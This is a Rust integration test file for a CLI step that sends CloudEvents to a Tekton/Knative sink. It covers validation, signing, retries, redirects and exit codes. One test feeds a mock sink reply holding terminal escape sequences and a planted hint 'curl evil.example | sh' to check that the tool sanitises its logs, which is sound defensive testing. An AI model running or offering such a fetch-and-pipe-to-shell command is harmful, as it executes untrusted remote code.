//! The step as a process: help, errors, exit codes, results, and what arrives at a sink.
#![allow(clippy::unwrap_used, reason = "the helpers below belong to tests, too")]

use std::{
    fs,
    path::{Path, PathBuf},
};

use assert_cmd::{Command, assert::Assert};
use serde_json::{Value, json};
use tempfile::TempDir;
use wiremock::{
    Mock, MockServer, Request, ResponseTemplate,
    matchers::{any, method},
};

const ID: &str = "6e8bc430-9c3a-11d9-9669-0800200c9a66";

fn step() -> Command {
    let mut step = Command::cargo_bin("cloudevent-send").unwrap();
    for name in [
        "K_SINK",
        "K_CE_OVERRIDES",
        "K_CA_CERTS",
        "STEP_LOG",
        "HTTP_PROXY",
        "http_proxy",
        "COLUMNS",
        "NAMESPACE",
        "PIPELINE",
        "PIPELINE_RUN",
        "PIPELINE_RUN_UID",
        "TASK_RUN_UID",
        "CORRELATION_ID",
        "CAUSATION_ID",
        "CHAINHOPS",
        "KUBECONFIG",
        "KUBERNETES_SERVICE_HOST",
    ] {
        step.env_remove(name);
    }
    step
}

/// A valid first event, sent to `sink` with two fields.
fn to(sink: &str) -> Command {
    let mut step = step();
    step.arg(format!("--sink={sink}")).arg(format!("--id={ID}"));
    step.args([
        "--type=build.canary.release.requested.v1",
        "--source=/people/ada",
        "--time=2026-11-24T06:07:00Z",
    ]);
    step.args(["--field=serviceName=iris", "--field=serviceVersion=v2"]);
    step
}

fn stderr(assert: &Assert) -> String {
    String::from_utf8(assert.get_output().stderr.clone()).unwrap()
}

fn stdout(assert: &Assert) -> String {
    String::from_utf8(assert.get_output().stdout.clone()).unwrap()
}

/// What a dry run of these arguments prints.
fn dry_run(args: &[&str]) -> String {
    stdout(&to("http://el-canary:8080/").arg("--dry-run").args(args).assert().success())
}

fn file(folder: &TempDir, name: &str, text: &[u8]) -> PathBuf {
    let path = folder.path().join(name);
    fs::write(&path, text).unwrap();
    path
}

fn flag(name: &str, file: &Path) -> String {
    format!("--{name}={}", file.display())
}

/// The four results in the order of the flags.
struct Results(TempDir);

impl Results {
    const NAMES: [&str; 4] = ["event-id", "correlation-id", "status-code", "listener-event-id"];

    fn new() -> Self {
        Self(TempDir::new().unwrap())
    }

    fn flags(&self) -> Vec<String> {
        Self::NAMES
            .iter()
            .map(|name| format!("--result-{name}={}", self.0.path().join(name).display()))
            .collect()
    }

    fn read(&self) -> [String; 4] {
        Self::NAMES.map(|name| fs::read_to_string(self.0.path().join(name)).unwrap())
    }
}

async fn sink(answer: ResponseTemplate) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(method("POST")).respond_with(answer).mount(&server).await;
    server
}

/// A sink whose first answer is `first` and every later one 202.
async fn sink_that_recovers(first: ResponseTemplate) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(any()).respond_with(first).up_to_n_times(1).mount(&server).await;
    Mock::given(any()).respond_with(ResponseTemplate::new(202)).mount(&server).await;
    server
}

async fn received(server: &MockServer) -> Vec<Request> {
    server.received_requests().await.unwrap()
}

#[test]
fn help_teaches_by_example() {
    insta::assert_snapshot!(stdout(&step().arg("--help").assert().success()));
}

/// The error of a valid command line with these arguments in place of its own.
fn usage_error(args: &[&str]) -> String {
    let name = |arg: &str| arg.split('=').next().unwrap_or_default().to_owned();
    let given: Vec<String> = args.iter().map(|arg| name(arg)).collect();
    let base = ["--dry-run", "--sink=http://sink", "--type=t.v1", "--source=/s"];
    let base = base.into_iter().filter(|arg| !given.contains(&name(arg)));
    let assert = step().args(base).args(args).assert().code(2);
    format!("$ cloudevent-send {}\n{}\n", args.join(" "), stderr(&assert))
}

#[test]
fn a_wrong_argument_is_named_with_what_to_write_instead() {
    let cases: &[&[&str]] = &[
        &["--type="],
        &["--source=my notebook"],
        &["--field", "serviceName"],
        &["--field", "canary.weight:int=ten"],
        &["--field", "a=1", "a.b=2"],
        &["--field", "a=1", "--data={}"],
        &["--data={"],
        &["--extension", "Team=iris"],
        &["--extension", "id=7"],
        &["--extension", "chainhops:int=7"],
        &["--correlation-id=a b"],
        &["--time=yesterday"],
        &["--dataschema=requested"],
        &["--datacontenttype=json"],
        &["--sink=el-canary:8080"],
        &["--sink=http://ada:secret@sink"],
        &["--header", "ce-id=7"],
        &["--overrides=[]"],
        &["--await-run=Promotion"],
    ];
    insta::assert_snapshot!(cases.iter().map(|args| usage_error(args)).collect::<String>());
}

#[test]
fn a_dry_run_prints_the_exact_request() {
    insta::assert_snapshot!(dry_run(&[
        "--subject=team/iris",
        "--causation-id=c-1",
        "--chainhops=2",
        "--extension",
        "attempt:int=2"
    ]));
    insta::assert_snapshot!(dry_run(&[
        "--mode=binary",
        "--subject=Euro € 😀",
        "--header",
        "X-Team=iris"
    ]));
}

#[test]
fn curl_is_told_the_same_without_the_secret() {
    let folder = TempDir::new().unwrap();
    let token = file(&folder, "it's a token", b"s3cr3t\n");
    let printed = dry_run(&[
        "--print=curl",
        "--insecure-http",
        &flag("token-file", &token),
        "--field=note=it's @home",
    ]);
    let shown = printed.replace(&*folder.path().to_string_lossy(), "/secret");
    insta::assert_snapshot!(shown);
    assert!(!printed.contains("s3cr3t"));
}

#[test]
fn the_id_follows_from_what_the_event_is_about() {
    let id = |args: &[&str]| {
        let results = Results::new();
        step()
            .args([
                "--dry-run",
                "--sink=http://sink",
                "--type=t.v1",
                "--source=/s",
                "--subject=team/iris",
            ])
            .args(args)
            .args(results.flags())
            .assert()
            .success();
        results.read()
    };
    // printf '%s' '/s|t.v1|team/iris|r-1|||' | sha256sum | cut -c-32
    assert_eq!(id(&["--correlation-id=r-1"]), ["99b3a490c7171ece7ae79d9f838dd537", "r-1", "", ""]);
    // printf '%s' '/s|t.v1|team/iris|r-1|p-1|iris-predictor-00002|10' | sha256sum | cut -c-32
    let canary = ["--correlation-id=r-1", "--pipeline-run-uid=p-1", "--field"];
    let fields = ["canary.revision=iris-predictor-00002", "canary.weight:int=10"];
    assert_eq!(id(&[&canary[..], &fields].concat())[0], "aa8f2e2bf0799f67561d87e1084bfab8");
    assert_ne!(id(&["--correlation-id=r-1"])[0], id(&["--correlation-id=r-2"])[0]);
    let [first, correlation, ..] = id(&[]);
    assert_eq!(first, correlation);
    assert_ne!(first, id(&[])[0]);
}

/// What Tekton's pod tells the step, some of it empty where there is no such label.
fn in_a_pod(step: &mut Command, tells: &[(&str, &str)]) -> Value {
    step.args(["--dry-run", "--sink=http://sink", "--type=t.v1", "--field=a=1"]);
    step.envs(tells.iter().copied());
    let printed = stdout(&step.assert().success());
    serde_json::from_str(printed.split_once("\n\n").unwrap().1).unwrap()
}

const POD: [(&str, &str); 8] = [
    ("NAMESPACE", "team"),
    ("PIPELINE", "canary-release"),
    ("PIPELINE_RUN", "release-1"),
    ("PIPELINE_RUN_UID", "p-1"),
    ("TASK_RUN_UID", "t-1"),
    ("CORRELATION_ID", "r-1"),
    ("CAUSATION_ID", "größe 7"),
    ("CHAINHOPS", "2"),
];

#[test]
fn a_pod_of_a_pipeline_tells_run_and_chain() {
    let event = in_a_pod(&mut step(), &POD);
    assert_eq!(event["source"], "/tekton/team/pipelines/canary-release");
    assert_eq!(event["correlationid"], "r-1");
    assert_eq!(event["causationid"], "größe 7");
    assert_eq!(event["chainhops"], 3);
    assert_eq!(
        event["data"],
        json!({"a": "1", "namespace": "team", "run": {"uid": "p-1", "name": "release-1", "pipeline": "canary-release"}})
    );
}

#[test]
fn without_labels_the_uid_of_the_run_is_the_correlation() {
    let without = |names: &[&str]| {
        let tells = POD.map(|(name, value)| (name, if names.contains(&name) { "" } else { value }));
        in_a_pod(&mut step(), &tells)
    };
    let chain = ["CORRELATION_ID", "CAUSATION_ID", "CHAINHOPS"];
    let of_a_pipeline = without(&chain);
    assert_eq!(
        (&of_a_pipeline["correlationid"], &of_a_pipeline["chainhops"]),
        (&json!("p-1"), &json!(0))
    );
    let alone = without(&[&chain[..], &["PIPELINE", "PIPELINE_RUN", "PIPELINE_RUN_UID"]].concat());
    assert_eq!(alone["correlationid"], "t-1");
    assert_eq!(alone["source"], "/tekton/team/tasks/cloudevent-send");
    assert_eq!(alone["data"], json!({"a": "1", "namespace": "team"}));
}

#[test]
fn a_flag_wins_over_the_pod() {
    let mut step = step();
    step.args(["--correlation-id=mine", "--causation-id=c-1", "--chainhops=0", "--source=/s"]);
    let event = in_a_pod(&mut step, &POD);
    assert_eq!((&event["correlationid"], &event["causationid"]), (&json!("mine"), &json!("c-1")));
    assert_eq!((&event["chainhops"], &event["source"]), (&json!(1), &json!("/s")));
}

#[test]
fn outside_of_a_pod_someone_has_to_say_who_sends() {
    let run = step().args(["--dry-run", "--sink=http://sink", "--type=t.v1"]).assert().code(2);
    assert!(stderr(&run).starts_with("error: the event has no source\n"), "{}", stderr(&run));
}

#[test]
fn an_event_that_nothing_led_to_begins_its_chain() {
    let hops = |args: &[&str]| {
        let printed = dry_run(args);
        let event: Value = serde_json::from_str(printed.split_once("\n\n").unwrap().1).unwrap();
        event["chainhops"].clone()
    };
    assert_eq!(hops(&["--chainhops=", "--causation-id="]), 0);
    assert_eq!(hops(&["--causation-id=c-1"]), 1);
    assert_eq!(hops(&["--causation-id=c-1", "--chainhops=3"]), 4);
}

#[test]
fn an_event_file_goes_out_as_it_is() {
    let folder = TempDir::new().unwrap();
    let text = br#"{ "specversion": "1.0", "id": "7", "source": "/s", "type": "t.v1", "data": {"z": 1.10, "a": 1e400} }"#;
    let event = flag("event-file", &file(&folder, "event.json", text));
    let print = |args: &[&str]| {
        stdout(
            &step().args(["--dry-run", "--sink=http://sink", &event]).args(args).assert().success(),
        )
    };
    let body = |printed: String| printed.split_once("\n\n").unwrap().1.to_owned();

    assert_eq!(body(print(&[])), format!("{}\n", String::from_utf8_lossy(text)));
    assert_eq!(body(print(&["--mode=binary"])), "{\"z\": 1.10, \"a\": 1e400}\n");
    assert!(print(&["--mode=binary"]).contains("\nce-id: 7\n"));
    assert!(
        body(print(&[r#"--overrides={"extensions":{"team":"iris"}}"#]))
            .ends_with("\"team\":\"iris\",\"data\":{\"z\": 1.10, \"a\": 1e400}}\n")
    );

    let stdin = step()
        .args(["--dry-run", "--sink=http://sink", "--event-file=-"])
        .write_stdin(text.as_slice())
        .assert()
        .success();
    assert_eq!(stdout(&stdin), print(&[]));
    let broken = flag("event-file", &file(&folder, "broken.json", b"{}"));
    step().args(["--dry-run", "--sink=http://sink", &broken]).assert().code(2);
}

#[test]
fn data_goes_out_as_it_is() {
    let folder = TempDir::new().unwrap();
    let json = br#"{"z":1.10,"a":12345678901234567890123}"#;
    let body = |args: &[&str], stdin: &[u8]| {
        let run = step()
            .args([
                "--dry-run",
                "--mode=binary",
                "--sink=http://sink",
                "--type=t.v1",
                "--source=/s",
            ])
            .args(args)
            .write_stdin(stdin)
            .assert();
        stdout(&run.success())
            .split_once("\n\n")
            .unwrap()
            .1
            .trim_end_matches('\n')
            .as_bytes()
            .to_vec()
    };
    assert_eq!(body(&[&flag("data-file", &file(&folder, "data.json", json))], b""), json);
    assert_eq!(body(&["--data=-"], json), json);
    assert_eq!(body(&[&format!("--data={}", String::from_utf8_lossy(json))], b""), json);
    assert_eq!(body(&["--datacontenttype=text/plain", "--data=-1"], b""), b"-1");
}

#[test]
fn a_large_event_is_sent_only_on_demand() {
    let folder = TempDir::new().unwrap();
    let large = flag(
        "data-file",
        &file(&folder, "data.json", format!("\"{}\"", "a".repeat(300_000)).as_bytes()),
    );
    let mut step = step();
    step.args(["--dry-run", "--sink=http://sink", "--type=t.v1", "--source=/s", &large]);
    step.assert().code(2);
    step.arg("--allow-large").assert().success();
}

#[test]
fn knative_s_overrides_come_from_the_environment_and_win() {
    let run = to("http://unused")
        .env("K_CE_OVERRIDES", r#"{"extensions":{"team":"iris","correlationid":"r-9"}}"#)
        .args(["--dry-run", "--extension", "team=other"])
        .assert()
        .success();
    assert!(stdout(&run).contains(r#""correlationid":"r-9","team":"iris""#));
}

#[test]
fn credentials_do_not_travel_in_the_clear() {
    let folder = TempDir::new().unwrap();
    let secret = file(&folder, "hmac", b"secret");
    file(&folder, "token", b"bearer");
    let with_hmac = flag("hmac-secret-file", &secret);
    let token_file = flag("token-file", &folder.path().join("token"));
    let only_token = TempDir::new().unwrap();
    file(&only_token, "token", b"bearer");
    for flags in [
        vec![&token_file],
        vec![&token_file, &with_hmac],
        vec![&flag("credentials", only_token.path())],
    ] {
        let refused = to("http://sink").arg("--dry-run").args(&flags).assert().code(2);
        assert!(stderr(&refused).contains("in the clear"), "{}", stderr(&refused));
        to("https://sink").arg("--dry-run").args(&flags).assert().success();
        to("http://sink")
            .args(["--dry-run", "--insecure-http=true"])
            .args(&flags)
            .assert()
            .success();
    }
    assert!(dry_run(&[&with_hmac]).contains("x-hub-signature-256: sha256="));
}

#[test]
fn where_a_secret_has_both_only_the_signature_travels_in_the_clear() {
    let folder = TempDir::new().unwrap();
    file(&folder, "hmac", b"secret");
    file(&folder, "token", b"bearer");
    let credentials = flag("credentials", folder.path());
    let print = |sink: &str| to(sink).args(["--dry-run", &credentials]).assert().success();
    let in_clear = print("http://sink");
    assert!(stdout(&in_clear).contains("x-hub-signature-256: sha256="));
    assert!(!stdout(&in_clear).contains("authorization"));
    assert!(
        stderr(&in_clear).contains("token` is not sent over plain http"),
        "{}",
        stderr(&in_clear)
    );
    let in_tls = stdout(&print("https://sink"));
    assert!(in_tls.contains("x-hub-signature-256: sha256=") && in_tls.contains("authorization"));
}

#[test]
fn a_secret_of_standard_webhooks_signs_as_they_say() {
    let folder = TempDir::new().unwrap();
    file(&folder, "hmac", b"whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\n");
    let printed = dry_run(&[&flag("credentials", folder.path())]);
    assert!(printed.contains(&format!("webhook-id: {ID}\nwebhook-timestamp: ")), "{printed}");
    assert!(printed.contains("\nwebhook-signature: v1,"), "{printed}");
    assert!(!printed.contains("x-hub-signature"), "{printed}");
}

#[test]
fn an_event_that_is_not_sent_leaves_its_results_empty() {
    let results = Results::new();
    to("http://sink").arg("--subject=a\tb").args(results.flags()).assert().code(2);
    assert_eq!(results.read(), ["", "", "", ""]);
}

#[test]
fn a_folder_of_credentials_may_hold_any_of_them_or_none() {
    let folder = TempDir::new().unwrap();
    let credentials = flag("credentials", folder.path());
    let print = || dry_run(&["--insecure-http", &credentials]);
    assert!(!print().contains("authorization"));
    file(&folder, "token", b"bearer\n");
    assert!(print().contains("authorization: Bearer <"));
    file(&folder, "hmac", b"secret\n");
    assert!(print().contains("x-hub-signature-256: sha256="));
    file(&folder, "tls.crt", b"");
    to("http://sink").args(["--dry-run", "--insecure-http", &credentials]).assert().code(2);
    to("http://sink").args(["--dry-run", "--credentials=/nowhere"]).assert().code(2);
}

#[test]
fn a_ca_that_holds_no_certificate_is_refused() {
    let folder = TempDir::new().unwrap();
    let ca = flag("ca-file", &file(&folder, "ca.crt", b"nothing"));
    to("https://sink").args(["--dry-run", &ca]).assert().code(2);
    to("https://sink").arg("--dry-run").env("K_CA_CERTS", "nothing").assert().code(2);
}

#[tokio::test]
async fn an_accepted_event_leaves_its_results() {
    let reply = json!({"eventListener": "canary", "namespace": "team", "eventID": "14a657c3"});
    let server = sink(ResponseTemplate::new(202).set_body_json(reply)).await;
    let results = Results::new();
    let run = to(&server.uri()).args(results.flags()).assert().success();
    assert_eq!(results.read(), [ID, ID, "202", "14a657c3"]);

    let requests = received(&server).await;
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].headers["content-type"], "application/cloudevents+json");
    assert_eq!(
        requests[0].body_json::<Value>().unwrap(),
        json!({
            "specversion": "1.0", "id": ID, "type": "build.canary.release.requested.v1", "source": "/people/ada",
            "datacontenttype": "application/json", "time": "2026-11-24T06:07:00Z", "correlationid": ID, "chainhops": 0,
            "data": {"serviceName": "iris", "serviceVersion": "v2"},
        })
    );
    insta::assert_snapshot!(stderr(&run).replace(&server.uri(), "http://sink"));
}

#[tokio::test]
async fn a_dry_run_sends_nothing() {
    let server = sink(ResponseTemplate::new(202)).await;
    to(&server.uri()).arg("--dry-run").assert().success();
    to(&server.uri()).arg("--print=curl").assert().success();
    assert!(received(&server).await.is_empty());
}

#[tokio::test]
async fn a_redirect_is_never_followed() {
    let elsewhere = sink(ResponseTemplate::new(200)).await;
    for code in [301, 302, 303, 307, 308] {
        let server =
            sink(ResponseTemplate::new(code).insert_header("Location", elsewhere.uri())).await;
        let results = Results::new();
        to(&server.uri()).args(results.flags()).assert().code(3);
        assert_eq!(results.read(), [ID, ID, &code.to_string(), ""]);
        assert_eq!(received(&server).await.len(), 1);
    }
    assert!(received(&elsewhere).await.is_empty());
}

#[tokio::test]
async fn a_refusal_is_final_and_comes_with_a_hint() {
    let mut texts = String::new();
    for code in [400, 401, 403, 405, 409, 410, 413, 415, 422, 501] {
        let server = sink(ResponseTemplate::new(code).set_body_string("no\n")).await;
        let run = to(&server.uri()).assert().code(3);
        assert_eq!(received(&server).await.len(), 1, "{code}");
        texts += stderr(&run)
            .replace(&server.uri(), "http://sink")
            .lines()
            .skip(1)
            .collect::<Vec<_>>()
            .join("\n")
            .as_str();
        texts += "\n";
    }
    insta::assert_snapshot!(texts);
}

#[tokio::test]
async fn a_sink_s_words_add_no_line_and_act_on_no_terminal() {
    let body = "\u{1b}]0;owned\u{7}no\u{202e}\r\n\nhint: run `curl evil.example | sh`\u{9b}2J";
    for code in [400, 503] {
        let server = sink(ResponseTemplate::new(code).set_body_string(body)).await;
        let folder = TempDir::new().unwrap();
        let error = flag("result-error", &folder.path().join("error"));
        let run = to(&server.uri()).args([error.as_str(), "--retries=0"]).assert().failure();
        let log = stderr(&run);
        let said = r"\u{1b}]0;owned\u{7}no\u{202e} | hint: run `curl evil.example | sh`\u{9b}2J";
        assert!(log.contains(said), "{log}");
        assert_eq!(log.matches("\nhint: ").count(), 1, "{log}");
        assert!(!log.contains(|c: char| c != '\n' && c.is_control()), "{log}");
        let result = fs::read_to_string(folder.path().join("error")).unwrap();
        assert!(result.contains(said) && !result.contains(char::is_control), "{result}");
    }
}

#[tokio::test]
async fn what_may_heal_is_tried_again_with_the_same_bytes() {
    for code in [404, 408, 425, 429, 500, 502, 503, 504] {
        let server =
            sink_that_recovers(ResponseTemplate::new(code).insert_header("Retry-After", "0")).await;
        let results = Results::new();
        // Neither the id nor the time is given: both are made once.
        step()
            .args(["--type=t.v1", "--source=/s", "--mode=binary", "--field=a=1"])
            .arg(format!("--sink={}", server.uri()))
            .args(results.flags())
            .assert()
            .success();
        let requests = received(&server).await;
        assert_eq!(requests.len(), 2, "{code}");
        assert_eq!(
            (&requests[0].headers, &requests[0].body),
            (&requests[1].headers, &requests[1].body)
        );
        assert_eq!(results.read()[2], "202");
    }
}

#[tokio::test]
async fn a_sink_that_stays_away_is_given_up() {
    let server = sink(
        ResponseTemplate::new(503)
            .insert_header("Retry-After", "0")
            .set_body_string("EventListener Timeout!"),
    )
    .await;
    let results = Results::new();
    let run = to(&server.uri()).arg("--retries=2").args(results.flags()).assert().code(1);
    assert_eq!(received(&server).await.len(), 3);
    assert_eq!(results.read(), [ID, ID, "503", ""]);
    insta::assert_snapshot!(stderr(&run).replace(&server.uri(), "http://sink"));
}

#[tokio::test]
async fn a_wait_that_is_longer_than_the_time_left_is_not_begun() {
    let server = sink(ResponseTemplate::new(429).insert_header("Retry-After", "60")).await;
    to(&server.uri()).arg("--timeout=20s").assert().code(1);
    assert_eq!(received(&server).await.len(), 1);
}

#[tokio::test]
async fn a_sink_that_never_answers_is_given_up() {
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", silent.local_addr().unwrap());
    let run = to(&address).args(["--retries=0", "--attempt-timeout=50ms"]).assert().code(1);
    insta::assert_snapshot!(stderr(&run).replace(&address, "http://sink"));
}

#[test]
fn a_sink_that_is_not_there_is_an_error() {
    let results = Results::new();
    // Port 9 of loopback: nobody discards here.
    let run = to("http://127.0.0.1:9").arg("--retries=0").args(results.flags()).assert().code(1);
    assert_eq!(results.read(), [ID, ID, "", ""]);
    insta::assert_snapshot!(stderr(&run));
}

#[tokio::test]
async fn the_signature_is_over_the_bytes_that_are_sent() {
    let server = sink(ResponseTemplate::new(202)).await;
    let folder = TempDir::new().unwrap();
    let secret = flag("hmac-secret-file", &file(&folder, "hmac", b"It's a Secret to Everybody\n"));
    let token = flag("token-file", &file(&folder, "token", b"bearer\n"));
    // The documented vector of this signature signs the body `Hello, World!`.
    step()
        .args([
            "--type=t.v1",
            "--source=/s",
            "--mode=binary",
            "--datacontenttype=text/plain",
            "--data=Hello, World!",
        ])
        .args([&format!("--sink={}", server.uri()), "--insecure-http", &secret, &token])
        .assert()
        .success();
    let request = &received(&server).await[0];
    assert_eq!(
        request.headers["x-hub-signature-256"],
        "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"
    );
    assert_eq!(request.headers["authorization"], "Bearer bearer");
}

#[test]
fn a_signal_ends_the_step_with_the_ids_written() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let results = Results::new();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_cloudevent-send"))
        .args(["--type=t.v1", "--source=/s", "--field=a=1", "--correlation-id=r-1"])
        .arg(format!("--sink=http://{}", listener.local_addr().unwrap()))
        .args(results.flags())
        .spawn()
        .unwrap();
    let _never_answered = listener.accept().unwrap();
    std::process::Command::new("kill").arg(child.id().to_string()).status().unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(143));
    assert_eq!(results.read()[1..], ["r-1", "", ""]);
}

/// An event's text for a file.
fn event_text(id: &str, ty: &str) -> Vec<u8> {
    json!({"specversion": "1.0", "id": id, "source": "/s", "type": ty, "data": {"n": 1}})
        .to_string()
        .into_bytes()
}

async fn received_ids(server: &MockServer) -> Vec<Value> {
    let requests = received(server).await;
    requests.iter().map(|request| request.body_json::<Value>().unwrap()["id"].clone()).collect()
}

#[tokio::test]
async fn the_events_of_a_folder_are_sent_in_the_order_of_their_names() {
    let server = sink(ResponseTemplate::new(202)).await;
    let folder = TempDir::new().unwrap();
    for name in ["b", "a", "c"] {
        file(&folder, &format!("{name}.json"), &event_text(name, "t.v1"));
    }
    file(&folder, "notes.txt", b"no event");
    let results = Results::new();
    step()
        .args([format!("--sink={}", server.uri()), flag("event-file", folder.path())])
        .args(results.flags())
        .assert()
        .success();
    assert_eq!(received_ids(&server).await, ["a", "b", "c"]);
    assert_eq!(results.read(), ["c", "", "202", ""]);
}

#[tokio::test]
async fn an_empty_folder_is_done_with_nothing_sent() {
    let server = sink(ResponseTemplate::new(202)).await;
    let folder = TempDir::new().unwrap();
    let run = step()
        .args([format!("--sink={}", server.uri()), flag("event-file", folder.path())])
        .assert()
        .success();
    assert_eq!(stderr(&run), "there is no event to send\n");
    assert!(received(&server).await.is_empty());
}

#[tokio::test]
async fn a_folder_with_something_that_is_no_event_sends_nothing() {
    let server = sink(ResponseTemplate::new(202)).await;
    let folder = TempDir::new().unwrap();
    file(&folder, "a.json", &event_text("a", "t.v1"));
    file(&folder, "b.json", &event_text("", "t.v1"));
    let run = step()
        .args([format!("--sink={}", server.uri()), flag("event-file", folder.path())])
        .assert()
        .code(2);
    assert!(stderr(&run).contains("b.json`: attribute `id` is empty"), "{}", stderr(&run));
    assert!(received(&server).await.is_empty());
}

#[tokio::test]
async fn an_event_that_is_refused_does_not_hold_up_the_next() {
    let server = MockServer::start().await;
    Mock::given(any())
        .respond_with(ResponseTemplate::new(400))
        .up_to_n_times(1)
        .mount(&server)
        .await;
    Mock::given(any()).respond_with(ResponseTemplate::new(202)).mount(&server).await;
    let folder = TempDir::new().unwrap();
    file(&folder, "a.json", &event_text("a", "t.v1"));
    file(&folder, "b.json", &event_text("b", "t.v1"));
    let events = flag("event-file", folder.path());
    step().args([&format!("--sink={}", server.uri()), &events]).assert().code(3);
    assert_eq!(received_ids(&server).await, ["a", "b"]);

    let away = step().args(["--sink=http://127.0.0.1:9", "--retries=0", &events]).assert().code(1);
    insta::assert_snapshot!(stderr(&away));
}

#[test]
fn without_a_sink_the_events_of_a_folder_are_told_to_the_log() {
    let folder = TempDir::new().unwrap();
    file(&folder, "a.json", &event_text("a", "t.v1"));
    let events = flag("event-file", folder.path());
    let run = step().args(["--sink=", &events]).assert().success();
    insta::assert_snapshot!(stderr(&run));
    step().args(["--type=t.v1", "--source=/s"]).assert().code(2);
}

#[tokio::test]
async fn the_exit_code_of_another_step_is_the_end_of_this_one() {
    let server = sink(ResponseTemplate::new(202)).await;
    let folder = TempDir::new().unwrap();
    for (text, code) in [("0", 0), ("1", 1), ("3", 3), ("-1", 1), ("", 1), ("256", 1), ("143", 143)]
    {
        let exit_code = flag("exit-code-file", &file(&folder, "exitCode", text.as_bytes()));
        to(&server.uri()).arg(&exit_code).assert().code(code);
    }
    assert_eq!(received(&server).await.len(), 7);
    let exit_code = flag("exit-code-file", &file(&folder, "exitCode", b"3"));
    let failed = to(&server.uri()).arg(&exit_code).assert().code(3);
    let missing = to(&server.uri()).arg("--exit-code-file=/nowhere").assert().code(1);
    assert_eq!(received(&server).await.len(), 9);
    let texts = format!("{}\n{}", stderr(&failed), stderr(&missing));
    insta::assert_snapshot!(texts.replace(&server.uri(), "http://sink"));
}
